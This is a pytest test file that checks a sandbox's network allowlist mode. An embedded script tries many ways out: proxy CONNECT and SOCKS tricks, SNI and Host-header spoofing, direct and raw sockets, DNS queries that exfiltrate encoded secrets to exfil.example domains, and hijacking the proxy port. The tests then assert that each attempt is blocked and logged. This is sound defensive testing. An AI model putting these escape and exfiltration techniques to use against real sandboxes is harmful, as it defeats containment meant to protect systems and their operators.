"""mode = "allowlist" under attack, judged from the host (issue 18).

Every server here is started by the test on 127.0.0.1 / ::1 and counts what
reaches it. The policy allows one of them by explicit address
(127.0.0.1:OK); a second one (BAD) is named only by `localhost:BAD` (a name
resolving to loopback) and must never see a byte, nor must the IPv6 one, the
UDP one or a host UNIX daemon. One sandboxed script tries every way out it
can think of and reports what it got; the host then checks its servers'
counters and the run's audit records.
"""
from __future__ import annotations

import http.server
import os
import socket
import threading
from dataclasses import replace

import pytest

pytestmark = pytest.mark.isolation


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):  # noqa: N802
        self.server.hits.append(self.path)
        if self.path.startswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", self.server.redirect_to)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = b"OK " + self.path.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


class Web(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, host: str = "127.0.0.1", v6: bool = False) -> None:
        self.address_family = socket.AF_INET6 if v6 else socket.AF_INET
        super().__init__((host, 0), Handler)
        self.hits: list[str] = []
        self.redirect_to = ""
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.shutdown()
        self.server_close()


class Counter:
    """A UDP socket and a host UNIX daemon counting what arrives."""

    def __init__(self, d) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.udp_port = self.udp.getsockname()[1]
        self.unix_path = str(d / "daemon.sock")
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind(self.unix_path)
        os.chmod(self.unix_path, 0o777)
        self.unix.listen(8)
        self.unix.settimeout(0.2)
        self.datagrams = self.unix_conns = 0
        self.stop = False
        self.threads = [threading.Thread(target=self._udp, daemon=True),
                        threading.Thread(target=self._unix, daemon=True)]
        for t in self.threads:
            t.start()

    def _udp(self):
        while not self.stop:
            try:
                self.udp.recv(2048)
                self.datagrams += 1
            except OSError:
                pass

    def _unix(self):
        while not self.stop:
            try:
                c, _ = self.unix.accept()
                self.unix_conns += 1
                c.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        for t in self.threads:
            t.join(2)
        self.udp.close()
        self.unix.close()


ATTACKS = r"""
import errno, json, os, socket, ssl, struct, sys, urllib.request, urllib.error
OK, BAD, V6, UDP, UNIX = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
res = {}
def attempt(key, f):
    try:
        res[key] = f()
    except urllib.error.HTTPError as e:
        res[key] = "http:%d" % e.code
    except OSError as e:
        res[key] = "errno:%s" % (e.errno if e.errno is not None else type(e).__name__)
    except Exception as e:
        res[key] = "exc:%s" % type(e).__name__
def get(url):
    with urllib.request.urlopen(url, timeout=20) as r:
        return r.read().decode()
def raw(data, n=4096):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(data)
    out = b""
    while True:
        b = s.recv(n)
        if not b:
            break
        out += b
    s.close()
    return out.decode("latin-1")
def socks(atyp_addr, port, cmd=1):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(bytes((5, cmd, 0)) + atyp_addr + struct.pack(">H", port))
    rep = s.recv(10)
    s.close()
    return rep[1]
attempt("allowed", lambda: get("http://127.0.0.1:%d/ok" % OK))
attempt("port", lambda: get("http://127.0.0.1:%d/port" % BAD))
attempt("private_name", lambda: get("http://localhost:%d/private" % BAD))
attempt("name", lambda: get("http://forbidden.example:%d/name" % OK))
attempt("v6", lambda: get("http://[::1]:%d/v6" % V6))
attempt("redirect", lambda: get("http://127.0.0.1:%d/redirect" % OK))
attempt("connect", lambda: raw(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n" % BAD).split("\r\n")[0])
attempt("connect_mapped", lambda: raw(b"CONNECT [::ffff:127.0.0.1]:%d HTTP/1.1\r\n\r\n" % BAD).split("\r\n")[0])
attempt("socks_v4", lambda: socks(b"\x01" + socket.inet_aton("127.0.0.1"), BAD))
attempt("socks_mapped", lambda: socks(b"\x04" + socket.inet_pton(socket.AF_INET6, "::ffff:127.0.0.1"), BAD))
attempt("socks_name", lambda: socks(b"\x03\x09localhost", BAD))
attempt("socks_udp", lambda: socks(b"\x01" + socket.inet_aton("127.0.0.1"), UDP, cmd=3))
attempt("socks_bind", lambda: socks(b"\x01" + socket.inet_aton("127.0.0.1"), BAD, cmd=2))
# one connection, two requests: the second, for BAD, must not ride the first's pipe
attempt("pipelined", lambda: raw(b"GET http://127.0.0.1:%d/first HTTP/1.1\r\nHost: x\r\n\r\n"
                                 b"GET http://127.0.0.1:%d/second HTTP/1.1\r\nHost: x\r\n\r\n" % (OK, BAD)).count("HTTP/1."))
attempt("host_header", lambda: raw(b"GET http://127.0.0.1:%d/hdr HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % (OK, BAD)).split("\r\n")[0])
# TLS to an allowed name carrying another server name
def sni():
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT localhost:%d HTTP/1.1\r\n\r\n" % OK)
    head = s.recv(4096)
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    ctx = ssl.create_default_context()
    obj = ctx.wrap_bio(inc, out, server_hostname="evil.example")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    s.sendall(out.read())
    rest = s.recv(4096)
    s.close()
    return head.split(b"\r\n")[0].decode() + " then " + repr(rest)
attempt("sni", sni)
# ignoring the proxy
def direct(addr, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((addr, port))
    return "connected"
attempt("direct_ok", lambda: direct("127.0.0.1", OK))
attempt("direct_v6", lambda: direct("::1", V6, socket.AF_INET6))
attempt("direct_out", lambda: direct("192.0.2.1", 80))
def udp(addr, port):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return u.sendto(b"leak", (addr, port))
attempt("udp_host", lambda: udp("127.0.0.1", UDP))
attempt("udp_out", lambda: udp("8.8.8.8", 53))
attempt("dns", lambda: socket.getaddrinfo("secret-3f9a.exfil.example", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and "opened")
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW) and "opened")
# families the mode does not need (seccomp: only UNIX, INET, INET6, NETLINK_ROUTE)
attempt("alg", lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) and "opened")
attempt("uevent", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15) and "opened")
# the proxy's own address cannot be taken over
def bind(addr, reuseport=False):
    s = socket.socket()
    if reuseport:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((addr, 3128))
    s.listen(1)
    return "bound"
attempt("bind_proxy", lambda: bind("127.0.0.1"))
attempt("bind_any", lambda: bind("0.0.0.0"))
attempt("bind_reuseport", lambda: bind("127.0.0.1", True))
def unix():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(5)
    s.connect(UNIX)
    return "connected"
attempt("unix_daemon", unix)
print(json.dumps(res))
"""


@pytest.fixture
def servers(tmp_path):
    d = tmp_path / "host"
    d.mkdir()
    d.chmod(0o755)
    tmp_path.chmod(0o755)
    ok, bad, v6 = Web(), Web(), Web("::1", v6=True)
    ok.redirect_to = f"http://127.0.0.1:{bad.port}/stolen"
    other = Counter(d)
    yield ok, bad, v6, other
    for s in (ok, bad, v6, other):
        s.close()


def _policy(tmp_path, allow):
    from sandbox.policy import load_policy
    pol = load_policy("strict")
    return pol.replace(
        filesystem=replace(pol.filesystem, read=pol.filesystem.read + (str(tmp_path / "host"),)),
        network=replace(pol.network, mode="allowlist", allow=tuple(allow)),
        audit=replace(pol.audit, files="denied"))


def run(tmp_path, py, code, args, allow):
    from sandbox.launcher.launcher import Launcher
    la = Launcher(capture_output=True)
    la.audit_db = str(tmp_path / "audit")
    r = la.spawn([py, "-I", "-c", code, *map(str, args)], policy=_policy(tmp_path, allow),
                 timeout=120)
    assert r.status == "ok", (r.status, r.reason, r.stderr[-3000:])
    import json
    return r, json.loads(r.stdout.strip().splitlines()[-1])


def test_every_way_out_is_closed_and_recorded(tmp_path, py, servers):
    ok, bad, v6, other = servers
    allow = [f"127.0.0.1:{ok.port}", f"localhost:{ok.port}", f"localhost:{bad.port}",
             f"forbidden-not.example:{ok.port}"]
    r, got = run(tmp_path, py, ATTACKS, [ok.port, bad.port, v6.port, other.udp_port,
                                         other.unix_path], allow)
    # the control: the allowed server answers through the proxy
    assert got["allowed"] == "OK /ok", got
    # judged from the host: nothing else ever reached a server of ours
    assert bad.hits == [] and v6.hits == [], (bad.hits, v6.hits, got)
    assert other.datagrams == 0 and other.unix_conns == 0, got
    assert "/second" not in ok.hits and "/stolen" not in ok.hits
    # each attempt failed cleanly, as the client sees it
    for key in ("port", "private_name", "name", "v6", "redirect"):
        assert got[key] == "http:403", (key, got[key])
    assert got["connect"].startswith("HTTP/1.1 403"), got["connect"]
    assert got["connect_mapped"].startswith("HTTP/1.1 403"), got["connect_mapped"]
    for key in ("socks_v4", "socks_mapped", "socks_name"):
        assert got[key] == 2, (key, got[key])                  # not allowed by ruleset
    assert got["socks_udp"] == 7 and got["socks_bind"] == 7    # command not supported
    assert got["pipelined"] == 1                               # one response, one request
    assert got["host_header"].startswith("HTTP/1.0 200"), got["host_header"]
    assert "then b''" in got["sni"] and got["sni"].startswith("HTTP/1.1 200"), got["sni"]
    assert got["alg"] == got["uevent"] == "errno:1", (got["alg"], got["uevent"])   # EPERM
    for key in ("direct_ok", "direct_v6", "direct_out", "udp_out", "raw", "packet",
                "bind_proxy", "bind_any", "bind_reuseport", "unix_daemon"):
        assert got[key].startswith("errno:"), (key, got[key])
    assert got["dns"].startswith(("errno:", "exc:gaierror")), got["dns"]
    assert got["bind_proxy"] == got["bind_any"] == got["bind_reuseport"] == "errno:98"
    assert got["unix_daemon"] == "errno:13"
    # recorded: the refusals, with the deciding rule, in the run's result and store
    denied = {d["path"]: d["rule"] for d in r.denied
              if d["operation"] == "connect" and d["syscall"] in ("proxy", "connect")
              and not d["rule"].startswith("network.allowlist")}
    assert denied[f"127.0.0.1:{bad.port}"] == f"no allow entry for 127.0.0.1:{bad.port}"
    assert "deny_private: 127.0.0.1 is loopback" in denied[f"localhost:{bad.port}"]
    assert denied[f"forbidden.example:{ok.port}"] == f"no allow entry for forbidden.example:{ok.port}"
    assert denied[f"[::1]:{v6.port}"] == f"no allow entry for [::1]:{v6.port}"
    assert denied[f"localhost:{ok.port}"].startswith("proxy: TLS server name 'evil.example'")
    assert denied[other.unix_path].startswith("network.unix")
    # a program ignoring the proxy variables is refused and recorded too
    direct = [d for d in r.denied if d["path"] in (f"127.0.0.1:{ok.port}", f"[::1]:{v6.port}",
                                                   "192.0.2.1:80") and d["syscall"] == "connect"]
    assert len(direct) == 3, r.denied
    assert all(d["rule"].startswith("network.allowlist: a direct connection") for d in direct)
    net = r.audit["network"]
    assert net["allowed"] >= 3 and net["denied"] >= 10, net
    import sandbox.audit
    rows = [x for x in sandbox.audit.records(r.audit["run_id"], db=r.audit["db"])
            if x["syscall"] == "proxy"]
    assert sum(x["count"] for x in rows) == net["connections"]   # repeats folded
    first = [x for x in rows if x["path"] == f"127.0.0.1:{ok.port}" and x["verdict"] == "allowed"]
    assert first and "address=127.0.0.1" in first[0]["flags"] and "down=" in first[0]["flags"]
    refused_name = [x for x in rows if x["path"] == f"forbidden.example:{ok.port}"]
    assert refused_name and "resolved=" not in refused_name[0]["flags"]   # never looked up


DNS = r"""
import json, socket, struct, sys
def query(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    q += struct.pack(">HH", qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(q, ("127.0.0.1", 53))
    r = s.recv(512)
    rcode, an = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    addrs = [socket.inet_ntoa(r[-4:])] if an and qtype == 1 else []
    return [rcode, an, addrs]
out = {"allowed": query("localhost"), "aaaa": query("localhost", 28),
       "exfil": query("c2VjcmV0.exfil.example"), "resolv": open("/etc/resolv.conf").read()}
try:
    socket.getaddrinfo("forbidden.example", 80)
    out["libc"] = "resolved"
except socket.gaierror as e:
    out["libc"] = "gaierror"
print(json.dumps(out))
"""


def test_the_dns_stub_answers_allowed_names_only(tmp_path, py, servers):
    from dataclasses import replace as rep
    import json
    from sandbox.launcher.launcher import Launcher
    ok = servers[0]
    pol = _policy(tmp_path, [f"localhost:{ok.port}", f"127.0.0.1:{ok.port}"])
    pol = pol.replace(network=rep(pol.network, dns=True))
    la = Launcher(capture_output=True)
    la.audit_db = str(tmp_path / "audit")
    r = la.spawn([py, "-I", "-c", DNS], policy=pol, timeout=120)
    assert r.status == "ok", (r.status, r.reason, r.stderr[-3000:])
    got = json.loads(r.stdout)
    assert got["allowed"] == [0, 1, ["127.0.0.1"]], got      # explicitly allowed address
    assert got["aaaa"][:2] == [0, 0], got                      # ::1 is not in the allowlist
    assert got["exfil"][:2] == [5, 0], got                     # REFUSED
    assert got["resolv"].startswith("nameserver 127.0.0.1"), got
    assert got["libc"] == "gaierror"
    import sandbox.audit
    rows = [x for x in sandbox.audit.records(r.audit["run_id"], db=r.audit["db"])
            if x["syscall"] == "dns"]
    refused = [x for x in rows if x["path"] == "c2VjcmV0.exfil.example"]
    assert refused and refused[0]["verdict"] == "denied" and "not looked up" in refused[0]["rule"]
    assert "resolved=" not in (refused[0]["flags"] or "")
    assert r.audit["network"]["dns_queries"] >= 3
